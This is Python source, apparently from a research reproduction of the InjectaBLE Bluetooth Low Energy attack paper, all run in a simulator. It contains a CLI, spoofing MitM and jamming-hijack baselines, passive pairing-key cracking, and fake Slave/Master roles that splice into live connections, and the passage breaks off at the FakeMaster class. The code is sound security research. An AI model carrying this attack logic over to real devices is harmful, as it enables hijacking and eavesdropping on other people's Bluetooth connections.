def _cmd_experiment(args: argparse.Namespace) -> int:
    from repro.experiments import (
        run_experiment_distance,
        run_experiment_hop_interval,
        run_experiment_payload_size,
        run_experiment_wall,
    )
    from repro.experiments.common import attempts_of, success_rate

    runners = {
        "hop": (run_experiment_hop_interval, "hop interval"),
        "payload": (run_experiment_payload_size, "PDU size (bytes)"),
        "distance": (run_experiment_distance, "position"),
        "wall": (run_experiment_wall, "distance behind wall (m)"),
    }
    runner, column = runners[args.which]
    results = runner(base_seed=args.seed, n_connections=args.connections,
                     jobs=args.jobs, cache=args.cache)
    samples = {key: attempts_of(trials) for key, trials in results.items()}
    print(render_distribution_table(
        f"InjectaBLE sensitivity — {args.which} "
        f"({args.connections} connections/config, seed {args.seed})",
        column, samples))
    worst = min(success_rate(trials) for trials in results.values())
    print(f"\nworst-case success rate: {worst:.2f}")
    return 0 if worst == 1.0 else 1


def _cmd_scenario(args: argparse.Namespace) -> int:
    from repro.experiments.scenarios import DEVICES, SCENARIOS

    scenario_keys = {"a": "A (use feature)", "b": "B (slave hijack)",
                     "c": "C (master hijack)", "d": "D (MitM)"}
    device_keys = {"bulb": "lightbulb", "keyfob": "keyfob",
                   "watch": "smartwatch"}
    runner = SCENARIOS[scenario_keys[args.which]]
    device_cls = DEVICES[device_keys[args.device]]
    ok, attempts = runner(device_cls, args.seed)
    print(render_series(
        f"Scenario {args.which.upper()} vs {args.device}",
        [("outcome", "OK" if ok else "FAILED", f"{attempts} attempt(s)")]))
    return 0 if ok else 1


def _capture_benign_world(args: argparse.Namespace, attach) -> None:
    """The historical capture world: bulb + phone, one write, no attacker."""
    from repro.devices import Lightbulb, Smartphone
    from repro.sim.medium import Medium
    from repro.sim.simulator import Simulator
    from repro.sim.topology import Topology

    sim = Simulator(seed=args.seed)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    medium = Medium(sim, topo)
    attach(sim, medium)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_000_000)
    ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
    phone.gatt.write(ctrl, Lightbulb.power_payload(False))
    sim.run(until_us=args.duration * 1_000_000)


def _cmd_capture(args: argparse.Namespace) -> int:
    from repro.analysis.packets import PacketCapture
    from repro.telemetry.capture import FrameRecorder

    observers: dict = {}

    def attach(sim, medium):
        observers["recorder"] = FrameRecorder(medium)
        if args.format == "text":
            observers["capture"] = PacketCapture(medium)

    if args.scenario:
        from repro.experiments.scenarios import DEVICES, SCENARIOS

        scenario_keys = {"a": "A (use feature)", "b": "B (slave hijack)",
                         "c": "C (master hijack)", "d": "D (MitM)"}
        device_keys = {"bulb": "lightbulb", "keyfob": "keyfob",
                       "watch": "smartwatch"}
        runner = SCENARIOS[scenario_keys[args.scenario]]
        ok, attempts = runner(DEVICES[device_keys[args.device]], args.seed,
                              world_hook=attach)
        print(f"scenario {args.scenario.upper()} vs {args.device}: "
              f"{'OK' if ok else 'FAILED'} ({attempts} attempt(s))")
    else:
        _capture_benign_world(args, attach)

    recorder = observers["recorder"]
    if args.format == "text":
        print(observers["capture"].render(limit=args.limit))
        print(f"\n{len(recorder)} frames captured "
              f"(showing up to {args.limit})")
        return 0
    output = args.output or f"capture.{args.format}"
    if args.format == "pcap":
        written = recorder.write_pcap(output)
    else:
        written = recorder.write_jsonl(output)
    print(f"wrote {written} frame(s) to {output} ({args.format})")
    return 0


def _cmd_metrics(args: argparse.Namespace) -> int:
    from repro.analysis.reporting import render_metrics_table
    from repro.experiments import (
        run_experiment_distance,
        run_experiment_hop_interval,
        run_experiment_payload_size,
        run_experiment_wall,
    )
    from repro.runner import merge_trial_metrics

    runners = {
        "hop": run_experiment_hop_interval,
        "payload": run_experiment_payload_size,
        "distance": run_experiment_distance,
        "wall": run_experiment_wall,
    }
    runner = runners[args.which]
    # Uncached on purpose: the point is a fresh, instrumented run whose
    # aggregate is reproducible for any --jobs value.
    results = runner(base_seed=args.seed, n_connections=args.connections,
                     jobs=args.jobs, cache=False, collect_metrics=True)
    flat = [trial for trials in results.values() for trial in trials]
    merged = merge_trial_metrics(flat)
    print(render_metrics_table(
        f"Telemetry — {args.which} ({len(flat)} trials, seed {args.seed})",
        merged))
    return 0


def _cmd_crack(args: argparse.Namespace) -> int:
    from repro.core.attacker import Attacker
    from repro.core.cracker import PairingSniffer, SessionCracker
    from repro.devices import Lightbulb, Smartphone
    from repro.sim.medium import Medium
    from repro.sim.simulator import Simulator
    from repro.sim.topology import Topology

    sim = Simulator(seed=args.seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_200_000)
    if not attacker.synchronized:
        print("attacker failed to synchronise", file=sys.stderr)
        return 1
    pairing = PairingSniffer(attacker.connection)
    previous = attacker.sniffer.on_event

    def hook(event):
        previous(event)
        pairing.on_event(event)

    attacker.sniffer.on_event = hook
    phone.host.pair(encrypt=True)
    sim.run(until_us=4_000_000)
    cracker = SessionCracker(pairing, max_pin=args.max_pin)
    ok = cracker.crack()
    rows = [
        ("pairing transcript", "complete" if pairing.transcript.complete
         else "incomplete"),
        ("TK (PIN)", str(cracker.pin) if ok else "not recovered"),
        ("STK", cracker.stk.hex() if cracker.stk else "-"),
        ("LL session key", cracker.session_key.hex()
         if cracker.session_key else "-"),
    ]
    print(render_series("CRACKLE-style passive key recovery", rows))
    return 0 if ok else 1


def _cmd_profile(args: argparse.Namespace) -> int:
    import cProfile
    import io
    import pstats

    from repro.experiments import (
        run_experiment_distance,
        run_experiment_hop_interval,
        run_experiment_payload_size,
        run_experiment_wall,
    )

    runners = {
        "hop": run_experiment_hop_interval,
        "payload": run_experiment_payload_size,
        "distance": run_experiment_distance,
        "wall": run_experiment_wall,
    }
    runner = runners[args.which]
    profiler = cProfile.Profile()
    profiler.enable()
    # Serial and uncached on purpose: child processes would escape the
    # profiler, and cache hits would hide the simulation cost.
    runner(base_seed=args.seed, n_connections=args.connections,
           jobs=1, cache=False)
    profiler.disable()
    stream = io.StringIO()
    stats = pstats.Stats(profiler, stream=stream)
    stats.strip_dirs().sort_stats("cumulative").print_stats(args.top)
    print(f"repro profile {args.which} — {args.connections} connection(s) "
          f"per configuration, seed {args.seed}, top {args.top} by "
          f"cumulative time")
    print(stream.getvalue())
    return 0


def _cmd_lint(args: argparse.Namespace) -> int:
    from pathlib import Path

    from repro.lintkit import (
        default_package_root,
        load_baseline,
        run_lint,
        save_baseline,
    )

    root = Path(args.root) if args.root else default_package_root()

    baseline_path = Path(args.baseline) if args.baseline else None
    if baseline_path is None:
        # Conventional locations: the working directory (running from a
        # checkout) or the repository root above an editable src/ install.
        from repro.lintkit.baseline import BASELINE_FILENAME

        candidates = [
            Path.cwd() / BASELINE_FILENAME,
            default_package_root().parent.parent / BASELINE_FILENAME,
        ]
        for candidate in candidates:
            if candidate.exists():
                baseline_path = candidate
                break

    baseline = load_baseline(baseline_path) if baseline_path else None
    report = run_lint(root=root, baseline=baseline)

    if args.write_baseline:
        target = baseline_path or Path.cwd() / "lint-baseline.json"
        merged = report.findings + report.baselined
        save_baseline(target, merged, reason="grandfathered via "
                      "`repro lint --write-baseline`")
        print(f"wrote {len(merged)} baseline entr"
              f"{'y' if len(merged) == 1 else 'ies'} to {target}")
        return 0

    if args.format == "json":
        print(report.to_json())
    else:
        print(report.render_text())
    return 0 if report.ok else 1


def _cmd_cache(args: argparse.Namespace) -> int:
    from repro.runner import ResultCache

    cache = ResultCache()
    if args.action == "clear":
        removed = cache.clear()
        print(f"removed {removed} cached trial result(s) from {cache.root}")
    else:
        print(render_series("Trial-result cache", [
            ("location", str(cache.root)),
            ("entries", str(len(cache))),
            # The result-relevant source hash keying every entry: edits to
            # sim/ll/phy/... change it; lintkit/analysis/CLI edits do not.
            ("code token", cache.token[:16]),
        ]))
    return 0


def build_parser() -> argparse.ArgumentParser:
    """The CLI argument parser (exposed for testing)."""
    parser = argparse.ArgumentParser(
        prog="repro",
        description="InjectaBLE reproduction: experiments, scenarios, "
                    "captures and key cracking over the simulated radio.",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    experiment = sub.add_parser("experiment",
                                help="run a Figure 9 sensitivity sweep")
    experiment.add_argument("which",
                            choices=("hop", "payload", "distance", "wall"))
    experiment.add_argument("--connections", type=int, default=10)
    experiment.add_argument("--seed", type=int, default=1)
    experiment.add_argument("--jobs", type=int, default=None,
                            help="worker processes (default: $REPRO_JOBS or "
                                 "1; 0 = all cores)")
    experiment.add_argument("--cache", action="store_true",
                            help="reuse/store trial results in the on-disk "
                                 "cache")
    experiment.set_defaults(func=_cmd_experiment)

    scenario = sub.add_parser("scenario", help="run one attack scenario")
    scenario.add_argument("which", choices=("a", "b", "c", "d"))
    scenario.add_argument("--device", choices=("bulb", "keyfob", "watch"),
                          default="bulb")
    scenario.add_argument("--seed", type=int, default=1000)
    scenario.set_defaults(func=_cmd_scenario)

    capture = sub.add_parser("capture",
                             help="dissect or export simulated air traffic")
    capture.add_argument("--seed", type=int, default=7)
    capture.add_argument("--duration", type=float, default=2.0,
                         help="simulated seconds (benign world only)")
    capture.add_argument("--limit", type=int, default=80,
                         help="max packets to print (text format)")
    capture.add_argument("--format", choices=("text", "jsonl", "pcap"),
                         default="text",
                         help="text dissection, JSONL frame log, or "
                              "Wireshark-compatible Nordic BLE pcap")
    capture.add_argument("--output", default=None,
                         help="destination file for jsonl/pcap "
                              "(default: capture.<format>)")
    capture.add_argument("--scenario", choices=("a", "b", "c", "d"),
                         default=None,
                         help="capture an attack scenario run instead of "
                              "the benign bulb+phone world")
    capture.add_argument("--device", choices=("bulb", "keyfob", "watch"),
                         default="bulb",
                         help="victim device for --scenario captures")
    capture.set_defaults(func=_cmd_capture)

    metrics = sub.add_parser(
        "metrics",
        help="run an instrumented sweep and print merged telemetry")
    metrics.add_argument("which",
                         choices=("hop", "payload", "distance", "wall"))
    metrics.add_argument("--connections", type=int, default=5)
    metrics.add_argument("--seed", type=int, default=1)
    metrics.add_argument("--jobs", type=int, default=None,
                         help="worker processes (default: $REPRO_JOBS or 1; "
                              "0 = all cores); the aggregate is identical "
                              "for any value")
    metrics.set_defaults(func=_cmd_metrics)

    crack = sub.add_parser("crack",
                           help="sniff a pairing and recover the keys")
    crack.add_argument("--seed", type=int, default=90)
    crack.add_argument("--max-pin", type=int, default=0,
                       help="brute-force bound (0 = Just Works only)")
    crack.set_defaults(func=_cmd_crack)

    profile = sub.add_parser(
        "profile",
        help="profile a reduced experiment sweep under cProfile")
    profile.add_argument("which",
                         choices=("hop", "payload", "distance", "wall"))
    profile.add_argument("--connections", type=int, default=2,
                         help="connections per configuration (reduced "
                              "workload default: 2)")
    profile.add_argument("--seed", type=int, default=1)
    profile.add_argument("--top", type=int, default=20,
                         help="entries to print, sorted by cumulative time")
    profile.set_defaults(func=_cmd_profile)

    cache = sub.add_parser("cache",
                           help="manage the on-disk trial-result cache")
    cache.add_argument("action", choices=("info", "clear"))
    cache.set_defaults(func=_cmd_cache)

    lint = sub.add_parser(
        "lint",
        help="run the project's determinism/invariant static analysis")
    lint.add_argument("--format", choices=("text", "json"), default="text",
                      help="report format (json includes baselined and "
                           "inline-waived findings)")
    lint.add_argument("--baseline", default=None,
                      help="baseline file of grandfathered findings "
                           "(default: lint-baseline.json in the working "
                           "directory or the repository root)")
    lint.add_argument("--root", default=None,
                      help="directory tree to lint (default: the installed "
                           "repro package)")
    lint.add_argument("--write-baseline", action="store_true",
                      help="grandfather every current finding into the "
                           "baseline file instead of failing on them")
    lint.set_defaults(func=_cmd_lint)
    return parser


def main(argv: Optional[Sequence[str]] = None) -> int:
    """CLI entry point."""
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
