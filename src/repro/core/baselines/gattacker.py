"""Advertisement-spoofing MitM baselines: GATTacker and BTLEJuice.

Both tools (paper §II) interpose on a connection by winning the
*advertising* race — which is exactly why neither can attack a connection
that is already established, the gap InjectaBLE closes.

* **GATTacker** clones the Peripheral's advertisements and broadcasts them
  faster, hoping the Central connects to the clone.
* **BTLEJuice** first connects to the real Peripheral (which therefore
  stops advertising) and only then exposes the clone, removing the race.

The clone serves a copy of the victim's GATT profile (the real tools scan
it in a preliminary phase); writes are forwarded to the real device when
the proxy connection is up, reads are served from the mirrored attribute
values.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.devices.base import SimulatedPeripheral
from repro.host.att.pdus import WriteCmd, WriteReq, decode_att_pdu
from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.server import GattServer
from repro.host.l2cap import CID_ATT, l2cap_decode, l2cap_encode
from repro.host.stack import CentralHost, PeripheralHost
from repro.ll.master import MasterLinkLayer
from repro.ll.pdu.address import BdAddress
from repro.ll.slave import SlaveLinkLayer
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator


@dataclass
class SpoofingResult:
    """Outcome of an advertisement-spoofing interposition.

    Attributes:
        central_captured: the victim Central connected to the clone.
        proxy_connected: the attacker holds a connection to the real
            Peripheral (for forwarding).
        forwarded_writes: writes relayed to the real device.
    """

    central_captured: bool = False
    proxy_connected: bool = False
    forwarded_writes: int = 0


class GattackerMitm:
    """GATTacker: clone the advertisements, advertise faster.

    Args:
        sim: owning simulator.
        medium: radio medium; ``name`` must be placed in its topology.
        name: attacker device name.
        victim: the real peripheral being cloned (provides identity and
            GATT profile, standing in for GATTacker's scanning phase).
        clone_adv_interval_ms: advertising interval of the clone — smaller
            than the victim's to win the race.
    """

    #: Whether this tool can attack an already-established connection.
    WORKS_ON_ESTABLISHED = False

    def __init__(
        self,
        sim: Simulator,
        medium: Medium,
        name: str,
        victim: SimulatedPeripheral,
        clone_adv_interval_ms: float = 20.0,
    ):
        self.sim = sim
        self.medium = medium
        self.victim = victim
        self.result = SpoofingResult()
        self.clone_ll = SlaveLinkLayer(
            sim, medium, name,
            victim.address,  # spoofed identity
            adv_interval_ms=clone_adv_interval_ms,
            adv_data=victim.ll.adv_data,
            scan_data=victim.ll.scan_data,
        )
        self.clone_gatt = self._mirror_profile(victim.gatt)
        self.clone_host = PeripheralHost(self.clone_ll, self.clone_gatt)
        self.clone_ll.on_connected = self._on_central_captured
        # Proxy side: our own Central toward the real device.
        self.proxy_ll = MasterLinkLayer(
            sim, medium, f"{name}#proxy",
            BdAddress.generate(sim.streams.get(f"addr-{name}-proxy")),
        )
        self.proxy = CentralHost(self.proxy_ll)
        self.proxy_ll.on_connected = self._on_proxy_connected
        self._position_proxy(name)

    def _position_proxy(self, name: str) -> None:
        position = self.medium.topology.position_of(name)
        self.medium.topology.place(f"{name}#proxy", position.x, position.y)

    def _mirror_profile(self, original: GattServer) -> GattServer:
        """Clone the victim's services; writes forward to the real device."""
        mirror = GattServer()
        for service in original.services:
            cloned = Service(service.uuid)
            for char in service.characteristics:
                cloned.add(Characteristic(
                    uuid=char.uuid,
                    value=char.value,
                    read=char.read,
                    write=char.write,
                    write_no_rsp=char.write_no_rsp,
                    notify=char.notify,
                    indicate=char.indicate,
                    on_write=lambda value, c=char: self._forward_write(c, value),
                ))
            mirror.register(cloned)
        return mirror

    def _forward_write(self, original_char, value: bytes) -> None:
        if not self.proxy_ll.is_connected:
            return
        self.proxy.att.write(original_char.value_handle, value)
        self.result.forwarded_writes += 1
        self.sim.trace.record(self.sim.now, self.clone_ll.name,
                              "spoof-forward-write",
                              uuid=original_char.uuid)

    # ------------------------------------------------------------------
    # Phases
    # ------------------------------------------------------------------

    def start(self) -> None:
        """Start the interposition attempt (advertising race)."""
        self.clone_ll.start_advertising()

    def _on_central_captured(self) -> None:
        self.result.central_captured = True
        self.sim.trace.record(self.sim.now, self.clone_ll.name,
                              "spoof-central-captured")
        # Connect to the real device for forwarding (it may still be
        # advertising since the victim Central never reached it).
        if not self.proxy_ll.is_connected:
            self.proxy_ll.connect(self.victim.address)

    def _on_proxy_connected(self) -> None:
        self.result.proxy_connected = True


class BtleJuiceMitm(GattackerMitm):
    """BTLEJuice: connect to the real Peripheral first, then expose a clone.

    Removes GATTacker's advertising race: once the attacker's proxy holds
    the only connection to the Peripheral, the victim Central can only
    find the clone.  Still strictly pre-connection.
    """

    WORKS_ON_ESTABLISHED = False

    def start(self) -> None:
        """Phase 1: silence the real device by connecting to it."""
        self.proxy_ll.connect(self.victim.address)

    def _on_proxy_connected(self) -> None:
        super()._on_proxy_connected()
        # Phase 2: the real device stopped advertising; expose the clone.
        if self.clone_ll.state.value != "advertising":
            self.clone_ll.start_advertising()
