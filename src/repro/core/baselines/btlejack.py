"""BTLEJack-style jamming Master hijack (Cauquil, DEF CON 26).

Strategy (paper §II): jam the Slave's response at every connection event so
the legitimate Master never hears it and disconnects on supervision
timeout; meanwhile keep following the hop sequence, and once the Master
falls silent, start polling the Slave in its place.

Contrast with InjectaBLE's Scenario C: the jammer must transmit at *every*
event for a whole supervision timeout (hundreds of frames, trivially
detected by an IDS), where the injection needs a handful of frames.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.roles import FakeMaster
from repro.core.state import SniffedConnection
from repro.errors import AttackError
from repro.ll.pdu.frame import verify_crc
from repro.ll.timing import window_widening_us
from repro.phy.signal import RadioFrame
from repro.sim.events import Event
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver
from repro.utils.units import T_IFS_US

#: Junk PDU transmitted as the jamming signal (long enough to cover a
#: typical Slave response).
_JAM_PDU = bytes(24)
#: Access address used for jamming frames (valid-looking noise).
_JAM_AA = 0x71764129

#: Margin around predicted anchors when listening for the Master.
_MARGIN_US = 250.0
#: Consecutive silent events before concluding the Master disconnected.
_MASTER_GONE_THRESHOLD = 6


@dataclass
class BtleJackResult:
    """Outcome and cost of the jamming hijack.

    Attributes:
        hijacked: the attacker ended up polling the Slave.
        jam_frames: jamming frames transmitted (the visibility cost).
        duration_us: time from first jam to takeover.
        fake_master: the attacker's Master role once hijacked.
    """

    hijacked: bool
    jam_frames: int
    duration_us: float
    fake_master: Optional[FakeMaster] = None


class BtleJackHijack:
    """Jam Slave responses until the Master leaves, then replace it.

    Args:
        sim: owning simulator.
        radio: attacker transceiver.
        conn: synchronised connection state (from the sniffer).
    """

    def __init__(self, sim: Simulator, radio: Transceiver,
                 conn: SniffedConnection):
        self.sim = sim
        self.radio = radio
        self.conn = conn
        self.jam_frames = 0
        self._events: list[Event] = []
        self._running = False
        self._silent = 0
        self._start_time = 0.0
        self._saw_master_this_event = False
        self._on_done: Optional[Callable[[BtleJackResult], None]] = None
        self.fake_master: Optional[FakeMaster] = None

    def start(self, on_done: Optional[Callable[[BtleJackResult], None]] = None
              ) -> None:
        """Begin jamming from the next connection event."""
        if self.conn.last_anchor_us is None:
            raise AttackError("connection not synchronised")
        self._on_done = on_done
        self._running = True
        self._start_time = self.sim.now
        self.radio.on_frame = self._on_frame
        self._arm_next_event()

    def stop(self) -> None:
        """Abort the attack."""
        self._running = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        self.radio.stop_listening()

    def _schedule(self, time_us: float, handler, label: str) -> Event:
        event = self.sim.schedule_at(max(time_us, self.sim.now), handler, label)
        self._events.append(event)
        if len(self._events) > 64:
            # Amortised compaction: fired and cancelled handles are
            # inert (cancel() on them is a no-op), so dropping them
            # lazily keeps this O(1) per call instead of O(n).
            self._events = [e for e in self._events if e.pending]
        return event

    def _arm_next_event(self) -> None:
        if not self._running:
            return
        channel = self.conn.advance_event()
        predicted = self.conn.predicted_anchor_us()
        w = window_widening_us(self.conn.params.master_sca_ppm, 50.0,
                               predicted - (self.conn.last_anchor_us or predicted))
        self._saw_master_this_event = False
        self._schedule(predicted - w - _MARGIN_US,
                       lambda ch=channel: self._open(ch), "btlejack-open")
        self._schedule(predicted + w + _MARGIN_US, self._window_closed,
                       "btlejack-close")

    def _open(self, channel: int) -> None:
        if self._running:
            self.radio.listen(channel)

    def _on_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        if not self._running:
            return
        if frame.access_address != self.conn.params.access_address:
            return
        # Master frame: re-anchor, then jam the Slave's response slot.
        for event in self._events:
            event.cancel()  # drop this event's stale window-close
        self._events.clear()
        self._saw_master_this_event = True
        self._silent = 0
        self.conn.note_anchor(frame.start_us)
        if verify_crc(frame, self.conn.params.crc_init):
            from repro.ll.pdu.data import DataPdu

            pdu = DataPdu.from_bytes(frame.pdu)
            self.conn.master_bits.sn = pdu.header.sn
            self.conn.master_bits.nesn = pdu.header.nesn
            self.conn.master_bits.seen = True
        self.radio.stop_listening()
        # Start jamming just before the response would begin, covering the
        # whole response slot.
        self._schedule(frame.end_us + T_IFS_US - 30.0,
                       lambda ch=frame.channel: self._jam(ch), "btlejack-jam")

    def _jam(self, channel: int) -> None:
        if not self._running:
            return
        if not self.radio.is_transmitting(self.sim.now):
            self.radio.transmit(_JAM_AA, _JAM_PDU, 0x000000, channel)
            self.jam_frames += 1
            self.sim.trace.record(self.sim.now, self.radio.name, "jam",
                                  channel=channel)
        self._arm_next_event()

    def _window_closed(self) -> None:
        if not self._running or self._saw_master_this_event:
            return
        self.radio.stop_listening()
        self._silent += 1
        if self._silent >= _MASTER_GONE_THRESHOLD:
            self._takeover()
        else:
            self._arm_next_event()

    def _takeover(self) -> None:
        """The Master is gone: poll the Slave ourselves."""
        self._running = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        fake = FakeMaster(
            self.sim, self.radio, self.conn,
            forged_bits=(self.conn.master_bits.sn, self.conn.master_bits.nesn)
            if self.conn.master_bits.seen else None,
            name=f"{self.radio.name}-btlejack-master",
        )
        self.fake_master = fake
        # Poll at the next predicted anchor on the Slave's schedule.
        self.conn.advance_event()
        fake.start(first_tx_us=self.conn.predicted_anchor_us())
        if self._on_done is not None:
            self._on_done(BtleJackResult(
                hijacked=True,
                jam_frames=self.jam_frames,
                duration_us=self.sim.now - self._start_time,
                fake_master=fake,
            ))
