"""State-of-the-art baselines the paper compares against (§II).

* :class:`BtleJackHijack` — Cauquil's jamming-based Master hijack
  (BTLEJack): jam every Slave response until the legitimate Master gives
  up, then take its place.  Works on established connections but is
  "highly invasive and visible" — the benchmark counts its frames on air.
* :class:`GattackerMitm` — Jasek's GATTacker: advertise a clone of the
  Peripheral faster than the original so the Central connects to the
  attacker.  Pre-connection only.
* :class:`BtleJuiceMitm` — Cauquil's BTLEJuice: connect to the Peripheral
  first (silencing its advertising), then expose the clone.
  Pre-connection only.
"""

from repro.core.baselines.btlejack import BtleJackHijack, BtleJackResult
from repro.core.baselines.gattacker import BtleJuiceMitm, GattackerMitm, SpoofingResult

__all__ = [
    "BtleJackHijack",
    "BtleJackResult",
    "BtleJuiceMitm",
    "GattackerMitm",
    "SpoofingResult",
]
