"""The attacker's minimal BLE stack: fake Slave and fake Master roles.

The paper's dongle embeds "a minimal BLE stack ... to mimic the behaviour
of the different roles involved in the connection" (§V-E).  These classes
are that stack: they speak the connection from a sniffed state, with lazy
acknowledgement-bit initialisation so they can splice into a live ARQ
stream at any point.

* :class:`FakeSlave` — responds to the legitimate Master's polls
  (Scenario B after the real Slave was terminated; Scenario D's
  Master-facing half).
* :class:`FakeMaster` — polls the real Slave on the attacker-controlled
  schedule (Scenario C after the forged connection update; Scenario D's
  Slave-facing half).
"""

from __future__ import annotations

from collections import deque
from typing import Callable, Optional

from repro.core.state import SniffedConnection
from repro.errors import HijackError
from repro.host.l2cap import CID_ATT, l2cap_decode, l2cap_encode
from repro.ll.pdu.data import LLID, DataPdu
from repro.ll.pdu.frame import compute_crc, verify_crc
from repro.ll.timing import window_widening_us
from repro.phy.signal import RadioFrame
from repro.sim.events import Event
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver
from repro.utils.units import T_IFS_US

#: Listening margin around predicted anchors for the fake roles, µs.
_ROLE_MARGIN_US = 250.0
#: Consecutive missed events before a fake role reports loss.
_ROLE_LOSS_THRESHOLD = 16


class _MiniArq:
    """The 1-bit ARQ state shared by both fake roles.

    Counters initialise lazily from the first frame heard from the peer,
    so the role can splice into an in-flight sequence-number stream.
    """

    def __init__(self) -> None:
        self.initialized = False
        self.transmit_seq = 0
        self.next_expected = 0
        self._last_sent: Optional[DataPdu] = None
        self._acked = True

    def init_from_peer(self, sn: int, nesn: int) -> None:
        """Adopt the counters the peer expects (lazy splice-in)."""
        if self.initialized:
            return
        self.transmit_seq = nesn
        self.next_expected = sn
        self.initialized = True

    def on_received(self, sn: int, nesn: int) -> bool:
        """Process peer bits; returns whether the payload is new data."""
        is_new = sn == self.next_expected
        if is_new:
            self.next_expected ^= 1
        if nesn != self.transmit_seq:
            self.transmit_seq ^= 1
            self._acked = True
        else:
            self._acked = False
        return is_new

    def next_pdu(self, queue: deque) -> DataPdu:
        """Select the next PDU to transmit under the retransmission rule."""
        if not self._acked and self._last_sent is not None:
            pdu = self._last_sent.with_bits(self.transmit_seq, self.next_expected)
        elif queue:
            pdu = queue.popleft().with_bits(self.transmit_seq, self.next_expected)
        else:
            pdu = DataPdu.empty(sn=self.transmit_seq, nesn=self.next_expected)
        self._last_sent = pdu
        self._acked = False
        return pdu


class FakeSlave:
    """Impersonates the Slave toward the legitimate Master.

    Args:
        sim: owning simulator.
        radio: attacker transceiver to use.
        conn: sniffed connection state (old schedule); its selector must
            be positioned on the current event.
        on_data: callback for L2CAP payloads the Master sends.
        name: label used in traces.
    """

    def __init__(
        self,
        sim: Simulator,
        radio: Transceiver,
        conn: SniffedConnection,
        on_data: Optional[Callable[[bytes], None]] = None,
        name: str = "fake-slave",
    ):
        self.sim = sim
        self.radio = radio
        self.conn = conn
        self.name = name
        self.on_data = on_data
        self.on_lost: Optional[Callable[[str], None]] = None
        self.arq = _MiniArq()
        self.tx_queue: deque[DataPdu] = deque()
        self._events: list[Event] = []
        self._missed = 0
        self._running = False
        self.frames_answered = 0

    # ------------------------------------------------------------------
    # Host-side API
    # ------------------------------------------------------------------

    def queue_l2cap(self, payload: bytes) -> None:
        """Queue an L2CAP frame toward the Master."""
        self.tx_queue.append(DataPdu.make(LLID.DATA_START, payload))

    def queue_att(self, att_bytes: bytes) -> None:
        """Queue an ATT PDU toward the Master."""
        self.queue_l2cap(l2cap_encode(CID_ATT, att_bytes))

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------

    def start(self) -> None:
        """Begin answering the Master from the next connection event."""
        if self.conn.last_anchor_us is None:
            raise HijackError("fake slave needs a synchronised connection")
        self._running = True
        self.radio.on_frame = self._on_frame
        self._arm_next_event()

    def stop(self) -> None:
        """Stop impersonating."""
        self._running = False
        for event in self._events:
            event.cancel()
        self._events.clear()
        self.radio.stop_listening()

    def _schedule(self, time_us: float, handler, label: str) -> Event:
        event = self.sim.schedule_at(max(time_us, self.sim.now), handler, label)
        self._events.append(event)
        if len(self._events) > 64:
            # Amortised compaction: fired and cancelled handles are
            # inert (cancel() on them is a no-op), so dropping them
            # lazily keeps this O(1) per call instead of O(n).
            self._events = [e for e in self._events if e.pending]
        return event

    def _arm_next_event(self) -> None:
        if not self._running:
            return
        channel = self.conn.advance_event()
        predicted = self.conn.predicted_anchor_us()
        w = window_widening_us(self.conn.params.master_sca_ppm, 50.0,
                               predicted - (self.conn.last_anchor_us or predicted))
        open_us = predicted - w - _ROLE_MARGIN_US
        close_us = predicted + w + _ROLE_MARGIN_US
        self._schedule(open_us, lambda ch=channel: self._open(ch),
                       f"{self.name}-open")
        self._schedule(close_us, self._window_closed, f"{self.name}-close")

    def _open(self, channel: int) -> None:
        if self._running:
            self.radio.rx_phy = self.conn.phy
            self.radio.listen(channel)

    def _window_closed(self) -> None:
        if not self._running:
            return
        lock_end = self.radio.medium.lock_end_of(self.radio)
        if lock_end is not None:
            self._schedule(lock_end + 2.0, self._window_closed,
                           f"{self.name}-extend")
            return
        self.radio.stop_listening()
        self._missed += 1
        if self._missed >= _ROLE_LOSS_THRESHOLD:
            self._lost("master silent")
            return
        self._arm_next_event()

    def _on_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        if not self._running:
            return
        if frame.access_address != self.conn.params.access_address:
            return
        for event in self._events:
            event.cancel()
        self._events.clear()
        self._missed = 0
        self.conn.note_anchor(frame.start_us)
        self.radio.stop_listening()
        if verify_crc(frame, self.conn.params.crc_init):
            pdu = DataPdu.from_bytes(frame.pdu)
            self.arq.init_from_peer(pdu.header.sn, pdu.header.nesn)
            is_new = self.arq.on_received(pdu.header.sn, pdu.header.nesn)
            if is_new and len(pdu.payload) > 0 and not pdu.is_control:
                if self.on_data is not None:
                    self.on_data(pdu.payload)
        self._schedule(frame.end_us + T_IFS_US, self._respond,
                       f"{self.name}-respond")

    def _respond(self) -> None:
        if not self._running:
            return
        pdu = self.arq.next_pdu(self.tx_queue)
        pdu_bytes = pdu.to_bytes()
        crc = compute_crc(pdu_bytes, self.conn.params.crc_init)
        self.radio.transmit(self.conn.params.access_address, pdu_bytes, crc,
                            self.conn.current_channel or 0, phy=self.conn.phy)
        self.frames_answered += 1
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.name, "fake-slave-response",
                                  event_count=self.conn.event_count)
        self._arm_next_event()

    def _lost(self, reason: str) -> None:
        self.stop()
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.name, "fake-slave-lost",
                                  reason=reason)
        if self.on_lost is not None:
            self.on_lost(reason)


class FakeMaster:
